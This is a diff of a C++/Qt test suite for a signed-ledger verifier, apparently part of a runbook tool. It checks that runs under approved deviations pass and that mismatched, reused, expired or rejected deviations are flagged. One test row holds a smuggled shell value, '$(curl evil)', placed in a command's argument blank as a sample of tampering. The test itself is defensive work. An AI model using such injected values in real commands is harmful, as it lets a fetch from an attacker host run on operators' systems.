@@ -31,6 +31,27 @@ void insert(SignedLedger& ledger, size_t at, events::Event event, const QString&
     std::rotate(ledger.entries.begin() + std::ptrdiff_t(at), ledger.entries.end() - 1, ledger.entries.end());
 }
 
+// Puts a request and its approval at the end; the next entry is number 20.
+void approve(SignedLedger& ledger, const QString& kind, const QString& target, const QByteArray& before = {},
+             const QByteArray& after = {})
+{
+    ledger.add(events::DeviationRequested{u"D2"_s, kind, target, before, after, u"why"_s}, u"Jonas"_s);
+    ledger.add(events::DeviationApproved{u"D2"_s, u"agreed"_s});
+}
+
+events::RunStarted runUnder(const QString& deviation, const QByteArray& text = "./check.sh", qint64 run = 2)
+{
+    events::RunStarted started;
+    started.run = run;
+    started.step = u"p/s"_s;
+    started.command = u"p/s/c"_s;
+    started.text = text;
+    started.workdir = u"/srv"_s;
+    started.environment = {u"A"_s};
+    started.deviations = {deviation};
+    return started;
+}
+
 } // namespace
 
 // Attacks by somebody who holds the machine and the log key: every checkpoint is good, and what people signed is not
@@ -71,6 +92,70 @@ private Q_SLOTS:
         const ledger::Verdict verdict = session::verifyLaunch(m_good.write(), {}).value();
         QVERIFY2(verdict.intact, qPrintable(verdict.problem));
         QCOMPARE(verdict.entries, SignedLedger::filled);
+    }
+
+    // What the rules allow is no attack: one work under one leave, and blanks that became references.
+    void whatWasApprovedIsIntact_data()
+    {
+        QTest::addColumn<Attack>("act");
+        using namespace events;
+        const auto row = [](const char* name, Attack act) { QTest::newRow(name) << std::move(act); };
+        row("exactly the text", [](SignedLedger& l) {
+            approve(l, u"command"_s, u"p/s/c"_s, "./check.sh", "./check.sh --all \xff");
+            l.add(runUnder(u"D2"_s, "./check.sh --all \xff"));
+        });
+        row("its blanks filled", [](SignedLedger& l) {
+            approve(l, u"command"_s, u"p/s/c"_s, "./check.sh", "[ -f x ] && ssh web './go <REV>' ____ a_b");
+            l.add(runUnder(u"D2"_s, "[ -f x ] && ssh web './go '\"${HOLDPOINT_VALUE_REV@Q}\"'' "
+                                    "\"${HOLDPOINT_VALUE_SITE_2}\" a_b"));
+        });
+        row("the approved folder and environment", [](SignedLedger& l) {
+            approve(l, u"environment"_s, u"p/s/c"_s, "B=1\nC=1", "A=2");
+            l.add(DeviationRequested{u"D3"_s, u"folder"_s, u"p/s/c"_s, "/opt", "/srv", u"why"_s}, u"Jonas"_s);
+            l.add(DeviationApproved{u"D3"_s, {}});
+            RunStarted run = runUnder(u"D2"_s);
+            run.deviations.append(u"D3"_s);
+            l.add(run);
+        });
+        row("boxes and commands of a step before its turn", [](SignedLedger& l) {
+            approve(l, u"order"_s, u"p/s"_s);
+            l.add(CheckTicked{u"p/s/one"_s, u"D2"_s});
+            l.add(runUnder(u"D2"_s));
+            l.add(CheckTicked{u"p/s/two"_s, u"D2"_s});
+        });
+        row("a gate before its turn, twice", [](SignedLedger& l) {
+            approve(l, u"order"_s, u"g"_s);
+            for (const bool go : {false, true}) {
+                GateDecided decided{u"g"_s, go, go ? QString() : u"rain"_s, {}};
+                decided.orderDeviation = u"D2"_s;
+                l.add(decided);
+            }
+        });
+        row("an override", [](SignedLedger& l) {
+            approve(l, u"override"_s, u"g"_s);
+            l.add(GateDecided{u"g"_s, true, {}, u"D2"_s});
+        });
+        row("a skip", [](SignedLedger& l) {
+            approve(l, u"skip"_s, u"p/s"_s);
+            l.add(StepSkipped{u"p/s"_s, u"late"_s, u"D2"_s});
+        });
+        row("the approved version", [](SignedLedger& l) {
+            const QString sha256 = fact<RunbookLoaded>(l, 1).sha256;
+            approve(l, u"runbook"_s, u"runbook"_s, {}, sha256.toLatin1());
+            l.add(RunbookLoaded{sha256, u"r.md"_s, u"Shop"_s, u"D2"_s});
+        });
+        row("one that expired unused", [](SignedLedger& l) {
+            approve(l, u"skip"_s, u"p/s"_s);
+            l.add(DeviationExpired{u"D2"_s, u"p"_s});
+        });
+    }
+
+    void whatWasApprovedIsIntact()
+    {
+        QFETCH(const Attack, act);
+        act(m_good);
+        const ledger::Verdict verdict = session::verifyLaunch(m_good.write(), {}).value();
+        QVERIFY2(verdict.intact, qPrintable(u"%1: %2"_s.arg(verdict.firstBad.value_or(-1)).arg(verdict.problem)));
     }
 
     void attacks_data()
@@ -213,6 +298,89 @@ private Q_SLOTS:
         });
         row("an answer to no roll call", 17, u"does not go on"_s, [](SignedLedger& l) {
             l.entries[17].body = RollCallAnswered{1, u"Ada"_s, true, {}};
+        });
+        row("another text than the approved one", 20, u"not what deviation D2 was approved for"_s, [](SignedLedger& l) {
+            approve(l, u"command"_s, u"p/s/c"_s, "./check.sh", "./check.sh --all");
+            l.add(runUnder(u"D2"_s, "./check.sh --force"));
+        });
+        row("a reference where the approved text has no blank", 20, u"not what deviation D2"_s, [](SignedLedger& l) {
+            approve(l, u"command"_s, u"p/s/c"_s, "./check.sh", "./check.sh --rev 17");
+            l.add(runUnder(u"D2"_s, "./check.sh --rev \"${HOLDPOINT_VALUE_REV}\""));
+        });
+        row("a shell line in the place of a blank", 20, u"not what deviation D2"_s, [](SignedLedger& l) {
+            approve(l, u"command"_s, u"p/s/c"_s, "./check.sh", "./check.sh --rev <REV>");
+            l.add(runUnder(u"D2"_s, "./check.sh --rev $(curl evil)"));
+        });
+        row("another folder than the approved one", 20, u"not what deviation D2"_s, [](SignedLedger& l) {
+            approve(l, u"folder"_s, u"p/s/c"_s, "/opt", "/srv/other");
+            l.add(runUnder(u"D2"_s));
+        });
+        row("an environment without what was approved", 20, u"not what deviation D2"_s, [](SignedLedger& l) {
+            approve(l, u"environment"_s, u"p/s/c"_s, "B=1", "B=2");
+            l.add(runUnder(u"D2"_s));
+        });
+        row("a deviation of another command", 20, u"approved for something else"_s, [](SignedLedger& l) {
+            approve(l, u"rerun"_s, u"p/s/other"_s);
+            l.add(runUnder(u"D2"_s));
+        });
+        row("a deviation of another kind", 20, u"approved for something else"_s, [](SignedLedger& l) {
+            approve(l, u"skip"_s, u"p/s/c"_s);
+            l.add(runUnder(u"D2"_s));
+        });
+        row("a skip of another step", 20, u"approved for something else"_s, [](SignedLedger& l) {
+            approve(l, u"skip"_s, u"p/s"_s);
+            l.add(StepSkipped{u"p/t"_s, u"late"_s, u"D2"_s});
+        });
+        row("a box of another step", 20, u"approved for something else"_s, [](SignedLedger& l) {
+            approve(l, u"order"_s, u"p/s"_s);
+            l.add(CheckTicked{u"p/s-2/box"_s, u"D2"_s});
+        });
+        row("another gate before its turn", 20, u"approved for something else"_s, [](SignedLedger& l) {
+            approve(l, u"order"_s, u"h"_s);
+            GateDecided decided{u"g"_s, true, {}, {}};
+            decided.orderDeviation = u"D2"_s;
+            l.add(decided);
+        });
+        row("another version than the approved one", 20, u"not what deviation D2"_s, [](SignedLedger& l) {
+            approve(l, u"runbook"_s, u"runbook"_s, {}, fact<RunbookLoaded>(l, 1).sha256.toLatin1());
+            l.add(RunbookLoaded{QString(64, u'b'), u"r.md"_s, u"Shop"_s, u"D2"_s});
+        });
+        row("a configuration under a runbook's deviation", 20, u"something else"_s, [](SignedLedger& l) {
+            approve(l, u"runbook"_s, u"runbook"_s, {}, fact<RunbookLoaded>(l, 1).sha256.toLatin1());
+            l.add(ConfigurationTrusted{fact<RunbookLoaded>(l, 1).sha256, u"D2"_s});
+        });
+        row("a deviation used twice", 21, u"a second time"_s, [](SignedLedger& l) {
+            approve(l, u"command"_s, u"p/s/c"_s, "./check.sh", "./check.sh --all");
+            l.add(runUnder(u"D2"_s, "./check.sh --all"));
+            l.add(runUnder(u"D2"_s, "./check.sh --all", 3));
+        });
+        row("a command let out of order twice", 21, u"a second time"_s, [](SignedLedger& l) {
+            approve(l, u"order"_s, u"p/s/c"_s);
+            l.add(runUnder(u"D2"_s));
+            l.add(runUnder(u"D2"_s, "./check.sh", 3));
+        });
+        row("a declaration's deviation used again", 18, u"something else"_s, [](SignedLedger& l) {
+            l.add(StepSkipped{u"p/s"_s, u"late"_s, u"D1"_s});
+        });
+        row("a deviation that had expired", 21, u"had expired"_s, [](SignedLedger& l) {
+            approve(l, u"rerun"_s, u"p/s/c"_s);
+            l.add(DeviationExpired{u"D2"_s, u"p"_s});
+            l.add(runUnder(u"D2"_s));
+        });
+        row("a deviation that was rejected", 20, u"nobody had approved"_s, [](SignedLedger& l) {
+            l.add(DeviationRequested{u"D2"_s, u"rerun"_s, u"p/s/c"_s, {}, {}, u"why"_s}, u"Jonas"_s);
+            l.add(DeviationRejected{u"D2"_s, u"no"_s});
+            l.add(runUnder(u"D2"_s));
+        });
+        row("an approval of what was rejected", 20, u"decided, used or expired before"_s, [](SignedLedger& l) {
+            l.add(DeviationRequested{u"D2"_s, u"rerun"_s, u"p/s/c"_s, {}, {}, u"why"_s}, u"Jonas"_s);
+            l.add(DeviationRejected{u"D2"_s, u"no"_s});
+            l.add(DeviationApproved{u"D2"_s, u"after all"_s});
+        });
+        row("an approval of what was used", 21, u"decided, used or expired before"_s, [](SignedLedger& l) {
+            approve(l, u"rerun"_s, u"p/s/c"_s);
+            l.add(runUnder(u"D2"_s));
+            l.add(DeviationApproved{u"D2"_s, u"once more"_s});
         });
         row("a note called signed", 17, u"no signature"_s,
             [](SignedLedger& l) { l.entries[17].actor.auth = Auth::Signed; });
